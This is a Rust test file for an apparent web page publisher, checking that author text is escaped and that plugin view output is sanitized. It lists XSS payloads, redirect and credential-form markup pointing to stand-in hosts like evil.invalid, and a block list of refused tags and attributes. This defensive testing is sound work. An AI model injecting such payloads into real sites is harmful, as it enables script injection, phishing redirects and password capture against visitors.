//! Author's text is escaped, and the output of views is sanitized.

use serde_json::json;

use super::bench::{changed, codes, document, element, notes, plugin, publication, work};

const HOSTILE: [&str; 8] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<py-slot></py-slot><script>alert(1)</script>",
    "red;background:url(https://evil.example)\"><script>alert(1)</script>",
];

#[tokio::test]
async fn hostile_text_in_every_field_stays_text() {
    for text in HOSTILE {
        let mut note = element("note", text, json!({ "text": text, "color": text }));
        note["customName"] = json!(text);
        note["interaction"] = json!({ "type": "page", "config": { "pageId": text } });
        note["commonStyle"]["color"] = json!("red");
        for kind in ["h5_swipper", "h5_long_page"] {
            let work = changed(json!({
                "id": 7, "title": text, "description": text, "page_mode": kind,
                "pages": [{ "id": text, "uuid": "u", "title": text, "elements": [note.clone()] }] }));
            let rendered = publication(&work, &notes()).await;
            for page in &rendered.documents {
                let html = page.html.to_lowercase();
                assert_eq!(
                    html.matches("<script").count(),
                    html.matches("<script type=\"module\" src=\"/a/").count(),
                    "{html}"
                );
                // The QR code beside the page is the host's own image.
                let own = html.matches("<aside class=\"py-aside\"><img src=\"/a/").count();
                assert_eq!(html.matches("<img").count(), own, "{html}");
                assert!(!html.contains("<svg"), "{html}");
                assert!(!html.contains("color:red;background"), "{html}");
                assert_eq!(html.matches("</style>").count(), 1);
            }
            assert!(document(&rendered, "0").html.contains("&lt;") || !text.contains('<'));
        }
    }
}

/// Additional output of hostile views: markup that leads a visitor away without running a script.
const LEADING: [&str; 10] = [
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.invalid\">",
    "<META HTTP-EQUIV=refresh CONTENT='0;URL=https://evil.invalid'>",
    "</div></section></main><meta http-equiv=\"refresh\" content=\"0;url=https://evil.invalid\">",
    "<svg></p><style><meta http-equiv=refresh content=0;url=https://evil.invalid></style></svg>",
    "<base href=\"https://evil.invalid/\">",
    "<link rel=\"prerender\" href=\"https://evil.invalid/\">",
    "<form action=\"https://evil.invalid\"><input name=\"password\"></form>",
    "<iframe src=\"https://evil.invalid\"></iframe><portal src=\"https://evil.invalid\"></portal>",
    "<noscript><meta http-equiv=\"refresh\" content=\"0;url=https://evil.invalid\"></noscript>",
    "<div data-href=\"javascript:hit(0)\" data-video=\"javascript:hit(0)\">x</div>",
];

/// Tags that are always removed.
const REFUSED: [&str; 20] = [
    "script",
    "style",
    "meta",
    "base",
    "link",
    "iframe",
    "frame",
    "object",
    "embed",
    "noscript",
    "template",
    "portal",
    "math",
    "animate",
    "set",
    "foreignObject",
    "title",
    "xmp",
    "noframes",
    "body",
];

/// Regression: `<meta refresh>` in a view's output redirected visitors to another site.
#[tokio::test]
async fn nothing_hostile_that_a_view_draws_reaches_a_visitor() {
    let corpus: Vec<String> =
        serde_json::from_str(include_str!("../../../../web/e2e/corpus.json")).unwrap();
    assert!(corpus.len() > 150);
    let raw = "return h('div', { dangerouslySetInnerHTML: { __html: props.html } })";
    let views = plugin("raws", &[("raw", "none", raw)]);
    let all = corpus.iter().map(String::as_str).chain(LEADING);
    let elements: Vec<_> = all
        .enumerate()
        .map(|(at, html)| element("raw", &format!("raw_{at}"), json!({ "html": html })))
        .collect();
    let count = elements.len();
    let rendered = publication(&work("h5_long_page", &[elements]), &views).await;
    assert!(codes(&rendered).iter().filter(|code| **code == "view.cleaned").count() > 100);
    let html = &document(&rendered, "0").html;
    let (_, main) = html.split_once("<main").unwrap();
    assert_eq!(main.matches("data-el=\"raw_").count(), count, "every box is there, and closed");
    assert!(main.ends_with("</body></html>"));
    let (inside, behind) = main.rsplit_once("</main>").unwrap();
    assert!(inside.ends_with("</div></section>"));
    assert!(!behind.contains("raw"), "what stands around the work is the host's: {behind}");
    for tag in tags(inside) {
        let name = tag.split([' ', '/']).next().unwrap();
        assert!(!REFUSED.iter().any(|one| name.eq_ignore_ascii_case(one)), "{tag}");
        for (attribute, value) in attributes(tag) {
            assert!(!attribute.starts_with("on"), "{tag}");
            assert!(
                !["srcdoc", "formaction", "http-equiv", "ping", "xlink:href"].contains(&attribute),
                "{tag}"
            );
            let value: String = value.chars().filter(|c| *c > ' ').collect();
            let value = value.to_ascii_lowercase();
            let leads =
                ["href", "src", "action", "data-href", "data-video", "poster"].contains(&attribute);
            assert!(
                !leads
                    || !["javascript:", "vbscript:", "data:text"]
                        .iter()
                        .any(|one| value.starts_with(one)),
                "{tag}"
            );
            assert!(attribute != "action" || !value.contains("evil.invalid"), "{tag}");
        }
    }
}

/// Returns the content of every tag as the host's serializer writes them: all values in double
/// quotes.
fn tags(html: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let mut quoted = false;
        let end = rest.find(|c| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let end = end.expect("every tag is closed");
        found.push(rest[..end].trim_start_matches('/'));
        rest = &rest[end + 1..];
    }
    found
}

fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').unwrap();
        found.push((name.trim(), value));
        rest = after;
    }
    found
}
